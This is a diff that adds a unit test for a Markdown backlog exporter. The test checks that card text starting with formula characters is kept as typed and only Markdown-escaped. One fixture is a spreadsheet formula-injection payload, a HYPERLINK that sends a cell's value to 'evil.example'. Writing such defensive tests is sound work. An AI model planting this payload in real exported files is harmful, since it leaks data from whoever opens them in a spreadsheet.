@@ -79,6 +79,38 @@ describe('toBacklogMarkdown', () => {
     )
   })
 
+  // The Jira CSV prefixes formula starts with `'` (spreadsheets run them); Markdown is not opened by a
+  // spreadsheet, so the same text stays as typed there, with only Markdown's own syntax escaped.
+  it('keeps text that would start a spreadsheet formula as typed, escaped as any other text', () => {
+    const formulas = backlogOf([
+      step('s', 0, '=cmd'),
+      slice('r', 0, '@SUM(1+1)'),
+      cardAt('link', 100, 100, {
+        title: '=HYPERLINK("http://evil.example/?"&A1, "Click")',
+        labels: ['-1+2', '@me'],
+        acceptance: ['+1+1', '=2'],
+      }),
+      cardAt('plus', 100, 200, { title: '+1+1\n- item', asA: '=x' }),
+      cardAt('minus', 100, 300, { title: '-2' }),
+      cardAt('at', 100, 350, { title: '@SUM(A1)' }),
+    ])
+    expect(toBacklogMarkdown(formulas, { title: '=Board' })).toBe(
+      [
+        '# =Board',
+        '',
+        '## @SUM(1+1)',
+        '',
+        '- **=HYPERLINK("http://evil.example/?"\\&A1, "Click")** (labels: \\-1+2, @me)',
+        '  - \\+1+1',
+        '  - =2',
+        '- **\\+1+1 - item** — As a =x',
+        '- **\\-2**',
+        '- **@SUM(A1)**',
+        '',
+      ].join('\n'),
+    )
+  })
+
   it('writes an empty board', () => {
     expect(toBacklogMarkdown(backlogOf([]), { title: 'Empty' })).toBe('# Empty\n\n_No cards._\n')
   })
